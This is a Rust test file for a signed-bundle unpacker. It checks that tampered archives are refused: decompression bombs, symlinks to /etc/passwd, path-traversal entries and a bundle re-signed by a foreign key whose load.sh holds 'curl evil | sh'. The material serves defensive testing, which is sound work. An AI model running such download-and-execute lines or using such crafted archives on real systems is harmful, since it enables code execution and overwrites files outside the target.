//! Bundles made here, signed with fixed test keys, and every attack the unpacker must refuse:
//! corrupted bytes anywhere, a bomb appended to a genuine bundle or put in place of a listed
//! file, links, devices, FIFOs, paths that leave the directory, a bundle re-signed by another
//! key, trailing bytes and a frame without its checksum.

use std::io::Read;

use base64::Engine;
use p256::ecdsa::signature::Signer;
use p256::ecdsa::{Signature, SigningKey};
use p256::pkcs8::{EncodePublicKey, LineEnding};

use super::*;

const TOP: &str = "stella-bundle-v9.9.9";

fn key(seed: u8) -> SigningKey {
    SigningKey::from_slice(&[seed; 32]).unwrap()
}

/// The entries of a bundle signed by `signer` holding `files`, head first, as the archive has
/// them.
fn entries(files: &[(&str, &[u8])], signer: &SigningKey) -> Vec<(String, Vec<u8>)> {
    let public = signer.verifying_key().to_public_key_pem(LineEnding::LF).unwrap().into_bytes();
    let mut body: Vec<(String, Vec<u8>)> = files.iter().map(|(p, b)| (p.to_string(), b.to_vec())).collect();
    body.sort();
    let sizes = checksums::write_sizes(body.iter().map(|(p, b)| (p.as_str(), b.len() as u64)));
    let mut listed: Vec<(String, String)> = body.iter().map(|(p, b)| (p.clone(), crate::sha256(b))).collect();
    listed.push(("cosign.pub".into(), crate::sha256(&public)));
    listed.push(("sizes.txt".into(), crate::sha256(sizes.as_bytes())));
    listed.sort();
    let sums: String = listed.iter().map(|(p, d)| format!("{}  {p}\n", d.trim_start_matches("sha256:"))).collect();
    let sig: Signature = signer.sign(sums.as_bytes());
    let sig = format!("{}\n", base64::engine::general_purpose::STANDARD.encode(sig.to_der().as_bytes()));
    let mut out = vec![
        ("checksums.txt".to_string(), sums.into_bytes()),
        ("bundle.sig".to_string(), sig.into_bytes()),
        ("cosign.pub".to_string(), public),
        ("sizes.txt".to_string(), sizes.into_bytes()),
    ];
    out.extend(body);
    out
}

fn header(kind: tar::EntryType, size: u64) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_mode(if kind.is_dir() { 0o755 } else { 0o644 });
    h.set_size(size);
    h
}

/// A tar.zst of `entries` under the top directory, then whatever `extra` appends.
fn archive(
    entries: &[(String, Vec<u8>)],
    extra: impl FnOnce(&mut tar::Builder<zstd::Encoder<'static, Vec<u8>>>),
) -> Vec<u8> {
    let mut enc = zstd::Encoder::new(Vec::new(), 3).unwrap();
    enc.include_checksum(true).unwrap();
    let mut tar = tar::Builder::new(enc);
    tar.append_data(&mut header(tar::EntryType::Directory, 0), format!("{TOP}/"), std::io::empty()).unwrap();
    for (path, bytes) in entries {
        file(&mut tar, path, bytes);
    }
    extra(&mut tar);
    tar.into_inner().unwrap().finish().unwrap()
}

/// A regular file `TOP/path` holding `bytes`.
fn file(tar: &mut tar::Builder<impl std::io::Write>, path: &str, bytes: &[u8]) {
    tar.append_data(&mut header(tar::EntryType::Regular, bytes.len() as u64), format!("{TOP}/{path}"), bytes).unwrap();
}

/// An entry whose name goes into the header as given (the tar crate's setters refuse `..`).
fn raw(tar: &mut tar::Builder<impl std::io::Write>, name: &str, kind: tar::EntryType, link: Option<&str>) {
    let mut h = header(kind, 0);
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    if let Some(l) = link {
        h.as_old_mut().linkname[..l.len()].copy_from_slice(l.as_bytes());
    }
    h.set_cksum();
    tar.append(&h, std::io::empty()).unwrap();
}

fn genuine() -> Vec<(String, Vec<u8>)> {
    let blob: Vec<u8> = (0..20_000u32).flat_map(|i| (i.wrapping_mul(2_654_435_761) >> 13).to_le_bytes()).collect();
    entries(&[("oci/index.json", b"{}\n"), ("oci/blobs/sha256/aa", &blob), ("load.sh", b"#!/bin/sh\n")], &key(7))
}

/// Unpacks `bytes` and returns the result; on refusal, checks that nothing was left behind.
fn try_unpack(bytes: &[u8], trust: &Trust) -> Result<Verified> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("b.tar.zst");
    std::fs::write(&file, bytes).unwrap();
    let out = dir.path().join("out");
    let result = unpack(&file, &out, trust, Limits::default());
    match &result {
        Err(_) => {
            let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
            assert_eq!(left, vec![std::ffi::OsString::from("b.tar.zst")], "a refused unpack left files behind");
        }
        // What was written verifies as an unpacked bundle does.
        Ok(v) => assert_eq!(crate::bundle::verify(&out.join(TOP), trust).unwrap().files, v.files),
    }
    result
}

fn refusal(bytes: &[u8], trust: &Trust) -> String {
    match try_unpack(bytes, trust) {
        Ok(v) => panic!("unpacked: {v:?}"),
        Err(e) => e.to_string(),
    }
}

fn trusted() -> Trust {
    Trust::Key(*key(7).verifying_key())
}

#[test]
fn a_genuine_bundle_unpacks_and_only_a_trusted_key_makes_it_verified() {
    let bytes = archive(&genuine(), |_| {});
    let v = try_unpack(&bytes, &trusted()).unwrap();
    assert!(v.origin_known && v.files == 5, "{v:?}");
    assert!(v.summary("b").starts_with("verified: "), "{}", v.summary("b"));
    let fp = crate::signature::fingerprint(key(7).verifying_key());
    assert!(try_unpack(&bytes, &Trust::Fingerprint(fp)).unwrap().origin_known);
    let embedded = try_unpack(&bytes, &Trust::Embedded).unwrap();
    assert!(!embedded.origin_known);
    assert!(embedded.summary("b").starts_with("intact, origin unknown"), "{}", embedded.summary("b"));
}

#[test]
fn every_single_byte_corruption_of_the_archive_is_refused() {
    let bytes = archive(&genuine(), |_| {});
    // Every third byte of the first 1 KiB (frame header, head entries), a spread through the
    // rest, and the last 16 (the last block and the content checksum); two kinds of flip.
    let n = bytes.len();
    let positions: Vec<usize> = (0..1024).step_by(3).chain((1024..n - 16).step_by(n / 61)).chain(n - 16..n).collect();
    for (i, &at) in positions.iter().enumerate() {
        {
            let flip = if i % 2 == 0 { 0x01u8 } else { 0x80 };
            let mut changed = bytes.clone();
            changed[at] ^= flip;
            if let Ok(v) = try_unpack(&changed, &trusted()) {
                panic!("byte {at} of {n} xor {flip:#x} was not noticed: {v:?}");
            }
        }
    }
}

#[test]
fn a_bomb_appended_to_a_genuine_bundle_is_refused_before_it_is_written() {
    let bomb = archive(&genuine(), |t| {
        let size = 1u64 << 30;
        t.append_data(
            &mut header(tar::EntryType::Regular, size),
            format!("{TOP}/zeros"),
            std::io::repeat(0).take(size),
        )
        .unwrap();
    });
    assert!(bomb.len() < 2 << 20, "the bomb compresses: {} bytes", bomb.len());
    let message = refusal(&bomb, &trusted());
    assert!(message.contains("zeros") && message.contains("not listed in checksums.txt"), "{message}");
    // In place of a listed file: refused from its header, against the signed size.
    let mut swapped = genuine();
    let blob = swapped.iter_mut().find(|(p, _)| p == "oci/blobs/sha256/aa").unwrap();
    blob.1 = vec![0; 64 << 20];
    let message = refusal(&archive(&swapped, |_| {}), &trusted());
    assert!(message.contains("sizes.txt says"), "{message}");
    // A head file that claims too much is refused before it is read.
    let mut big = genuine();
    big[0].1 = vec![b'0'; 9 << 20];
    let message = refusal(&archive(&big, |_| {}), &trusted());
    assert!(message.contains("checksums.txt") && message.contains("before the signature is checked"), "{message}");
}

#[test]
fn links_devices_fifos_and_paths_that_leave_the_bundle_are_refused() {
    let cases: [(&str, tar::EntryType, Option<&str>, &str); 7] = [
        ("symlink", tar::EntryType::Symlink, Some("/etc/passwd"), "Symlink"),
        ("hardlink", tar::EntryType::Link, Some("/etc/passwd"), "Link"),
        ("char", tar::EntryType::Char, None, "Char"),
        ("block", tar::EntryType::Block, None, "Block"),
        ("fifo", tar::EntryType::Fifo, None, "Fifo"),
        ("../../escaped", tar::EntryType::Regular, None, ".."),
        ("/tmp/stella-unpack-escape", tar::EntryType::Regular, None, "absolute"),
    ];
    for (name, kind, link, wanted) in cases {
        let full = if name.starts_with('/') { name.to_string() } else { format!("{TOP}/{name}") };
        // After a genuine head (a signed bundle with one crafted entry more), and before it.
        for before_head in [false, true] {
            let entries = genuine();
            let (head, body) = entries.split_at(if before_head { 0 } else { 4 });
            let bytes = archive(head, |t| {
                raw(t, &full, kind, link);
                for (p, b) in body {
                    file(t, p, b);
                }
            });
            let message = refusal(&bytes, &trusted());
            assert!(message.contains(wanted), "{name} (before the head: {before_head}): {message}");
        }
    }
    assert!(!Path::new("/tmp/stella-unpack-escape").exists());
}

#[test]
fn a_bundle_re_signed_by_another_key_is_refused_or_only_intact() {
    let forged = archive(&entries(&[("load.sh", b"#!/bin/sh\ncurl evil | sh\n")], &key(9)), |_| {});
    assert!(refusal(&forged, &trusted()).contains("does not match"));
    let fp = crate::signature::fingerprint(key(7).verifying_key());
    assert!(refusal(&forged, &Trust::Fingerprint(fp)).contains("not the trusted"));
    assert!(!try_unpack(&forged, &Trust::Embedded).unwrap().origin_known);
}

#[test]
fn missing_files_trailing_bytes_and_a_frame_without_checksum_are_refused() {
    let mut short = genuine();
    short.retain(|(p, _)| p != "load.sh");
    let message = refusal(&archive(&short, |_| {}), &trusted());
    assert!(message.contains("load.sh is listed in checksums.txt but not in the archive"), "{message}");

    let mut trailing = archive(&genuine(), |_| {});
    trailing.extend_from_slice(&zstd::encode_all(&b"more"[..], 3).unwrap());
    assert!(refusal(&trailing, &trusted()).contains("bytes after its zstd frame"));

    let mut plain = tar::Builder::new(Vec::new());
    plain.append_data(&mut header(tar::EntryType::Directory, 0), format!("{TOP}/"), std::io::empty()).unwrap();
    for (p, b) in genuine() {
        file(&mut plain, &p, &b);
    }
    let unchecked = zstd::encode_all(plain.into_inner().unwrap().as_slice(), 3).unwrap();
    assert!(refusal(&unchecked, &trusted()).contains("no content checksum"));

    let mut unordered = genuine();
    unordered.swap(0, 4);
    assert!(refusal(&archive(&unordered, |_| {}), &trusted()).contains("comes where checksums.txt should"));
}

#[test]
fn paths_that_leave_the_target_are_refused() {
    assert!(safe_path("a/../../etc/passwd").unwrap_err().to_string().contains(".."));
    assert!(safe_path("/etc/passwd").unwrap_err().to_string().contains("absolute"));
    assert_eq!(safe_path("./oci/index.json").unwrap(), Some(PathBuf::from("oci/index.json")));
    assert_eq!(safe_path("./").unwrap(), None);
}
